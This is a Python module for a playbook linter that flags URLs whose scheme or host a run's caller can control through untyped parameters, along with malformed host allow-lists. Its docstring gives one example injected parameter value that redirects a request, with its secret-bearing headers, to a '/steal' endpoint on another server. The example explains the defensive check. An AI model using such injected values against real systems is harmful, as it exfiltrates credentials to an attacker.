"""Where a playbook's requests may go: whoever starts a run must not choose a URL's scheme or host (PB211).

`url: http://${service}.internal/health` started with `-p 'service=10.0.0.9:8000/steal?x='`
sends the step's headers, and the secrets in them, to another server. A parameter may stand
in a URL's scheme or authority (user, host, port) only when it is typed for it, `type: host`
or `type: url`; its value is then checked when the run starts, against the parameter's
`pattern` (a regex the whole value must match) and `allowed_hosts`. Variables are followed
to the parameters they hold. Secrets, `${env.X}` and step outputs are the engine's and the
playbook's own, not the caller's, and are not flagged.
"""
from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

from services.hosts import host_allowed, is_host, pattern_problem
from services.playbook.diagnostics import Issue, Path
from services.playbook.regexes import BadRegex, matches_whole, regex_problem
from services.playbook.references import Reference, ReferenceSyntaxError, find_references

NETWORK_TYPES = ("host", "url")
_HOLE = "\0"                       # stands for a value in a URL's shape
_AUTHORITY_END = re.compile(r"[/?#]")
_MAX_DEPTH = 20                    # variables within variables; deeper is a cycle, reported elsewhere
_Pieces = list[str | tuple[Reference, tuple[str, ...]]]


def destination_issues(data: dict[Any, Any]) -> list[Issue]:
    """PB211 for every http URL whose scheme or authority a caller's untyped parameter can set, and PB104 for
    a malformed `pattern` or `allowed_hosts` on a parameter."""
    parameters = data.get("parameters")
    declared = {p["name"]: p for p in parameters if isinstance(p, dict) and isinstance(p.get("name"), str)} \
        if isinstance(parameters, list) else {}
    variables = data.get("variables") if isinstance(data.get("variables"), dict) else {}
    issues = list(_declaration_issues(parameters if isinstance(parameters, list) else []))
    inlined: dict[tuple[str, ...], _Pieces | None] = {}
    for at, url in _urls(data):
        issues += _url_issues(url, at, declared, variables, inlined)
    return issues


def typed_value(kind: str, value: Any) -> str | None:
    """A `host` or `url` parameter's value, or None if it is not one."""
    if not isinstance(value, str):
        return None
    text = value.strip()
    if kind == "host":
        return text if is_host(text) else None
    try:
        parts = urlsplit(text)
        port_ok = parts.port is None or 0 < parts.port < 65536
    except ValueError:
        return None
    if parts.scheme not in ("http", "https") or not parts.hostname or not port_ok or any(c.isspace() for c in text):
        return None
    return text


def allowance_problem(kind: str | None, value: Any, pattern: str | None, allowed_hosts: list[str] | None) -> str | None:
    """Why a typed value is not allowed by its parameter's `pattern` or `allowed_hosts`, or None."""
    if pattern is not None and isinstance(value, str):
        try:
            if not matches_whole(pattern, value):
                return f"does not match its pattern {pattern!r}"
        except BadRegex:
            return None              # the declaration's own PB104 says why
    if allowed_hosts is not None and kind in NETWORK_TYPES:
        host = value if kind == "host" else urlsplit(value).hostname or ""
        if not host_allowed(host, allowed_hosts):
            return f"names host {host!r}, which is not among its allowed_hosts ({', '.join(allowed_hosts)})"
    return None


def _declaration_issues(parameters: list[Any]) -> Iterator[Issue]:
    for i, parameter in enumerate(parameters):
        if not isinstance(parameter, dict):
            continue
        pattern, hosts = parameter.get("pattern"), parameter.get("allowed_hosts")
        if isinstance(pattern, str) and (problem := regex_problem(pattern)):
            yield Issue("PB104", f"pattern {problem}", ("parameters", i, "pattern"))
        if isinstance(hosts, list):
            if parameter.get("type") not in NETWORK_TYPES:
                yield Issue("PB104", "allowed_hosts applies to parameters of type host or url; add one of them",
                            ("parameters", i, "allowed_hosts"))
            for k, host in enumerate(hosts):
                if problem := pattern_problem(host):
                    yield Issue("PB104", f"allowed_hosts: {problem}", ("parameters", i, "allowed_hosts", k))


def _urls(data: dict[Any, Any]) -> list[tuple[Path, str]]:
    """Every URL a request of the playbook goes to: validators', then http_request steps', their rollbacks' and
    remediations'."""
    steps = data.get("steps")
    checked: list[tuple[Path, str]] = []
    requested: list[tuple[Path, str]] = []
    for i, step in enumerate(steps if isinstance(steps, list) else []):
        if not isinstance(step, dict):
            continue
        if (url := _requested(step)) is not None:
            requested.append((("steps", i, "args", "url"), url))
        rollback = step.get("rollback")
        for k, undo in enumerate(rollback if isinstance(rollback, list) else ()):
            if (url := _requested(undo)) is not None:
                requested.append((("steps", i, "rollback", k, "args", "url"), url))
        validators = step.get("validators")
        for k, check in enumerate(validators if isinstance(validators, list) else ()):
            if isinstance(check, dict) and check.get("type") == "http_status" and isinstance(check.get("url"), str):
                checked.append((("steps", i, "validators", k, "url"), check["url"]))
    handlers = data.get("error_handlers")
    for k, handler in enumerate(handlers if isinstance(handlers, list) else ()):
        if isinstance(handler, dict) and (url := _requested(handler.get("run"))) is not None:
            requested.append((("error_handlers", k, "run", "args", "url"), url))
    return checked + requested


def _requested(action: Any) -> str | None:
    """The URL of an http_request action."""
    args = action.get("args") if isinstance(action, dict) and action.get("action") == "http_request" else None
    return args["url"] if isinstance(args, dict) and isinstance(args.get("url"), str) else None


def _url_issues(url: str, at: Path, declared: dict[str, Any], variables: dict[Any, Any],
                inlined: dict[tuple[str, ...], _Pieces | None]) -> list[Issue]:
    pieces = _expanded(url, variables, (), inlined)
    if pieces is None:
        return []
    shape = "".join(_HOLE if isinstance(piece, tuple) else piece for piece in pieces)
    scheme_end = shape.find("://")
    if scheme_end == -1 and not shape.startswith(_HOLE):
        return []                    # not an absolute URL: the action refuses it when it runs
    start = scheme_end + 3 if scheme_end != -1 else 0
    found = _AUTHORITY_END.search(shape, start)
    authority_end = found.start() if found else len(shape)
    issues, position = [], 0
    for piece in pieces:
        if isinstance(piece, tuple):
            ref, through = piece
            name = ref.name.split(".")[0]
            parameter = declared.get(name)
            if position < authority_end and ref.kind == "name" and parameter is not None \
                    and parameter.get("type") not in NETWORK_TYPES:
                part = "scheme and host" if scheme_end == -1 else "scheme" if position < scheme_end \
                    else "host, port or user"
                via = f" (through variable {' -> '.join(repr(v) for v in through)})" if through else ""
                issues.append(Issue("PB211", (
                    f"parameter '{name}' sets this URL's {part}{via}, so whoever starts the run chooses which server "
                    "the request, its headers and the secrets in them go to; declare it with type: host (or type: "
                    "url) and allowed_hosts or pattern, or write the host out"), at))
            position += 1
        else:
            position += len(piece)
    return issues


def _expanded(text: str, variables: dict[Any, Any], through: tuple[str, ...],
              inlined: dict[tuple[str, ...], _Pieces | None]) -> _Pieces | None:
    """The text as literal pieces and (reference, variables it came through), text variables inlined.

    A variable reached through the same variables expands the same way: `inlined` keeps it, for the
    next URL that uses it (thousands of steps' URLs start with one variable).
    """
    try:
        refs = find_references(text)
    except ReferenceSyntaxError:
        return None                  # PB210 says so
    pieces: _Pieces = []
    position = 0
    for ref in refs:
        pieces.append(text[position:ref.start].replace("$${", "${"))
        value = variables.get(ref.name) if ref.kind == "name" else None
        if isinstance(value, str) and len(through) < _MAX_DEPTH:
            if (via := (*through, ref.name)) not in inlined:
                inlined[via] = _expanded(value, variables, via, inlined)
            inner = inlined[via]
        else:
            inner = None
        if inner is not None:
            pieces += inner
        else:
            pieces.append((ref, through))
        position = ref.end
    pieces.append(text[position:].replace("$${", "${"))
    return pieces
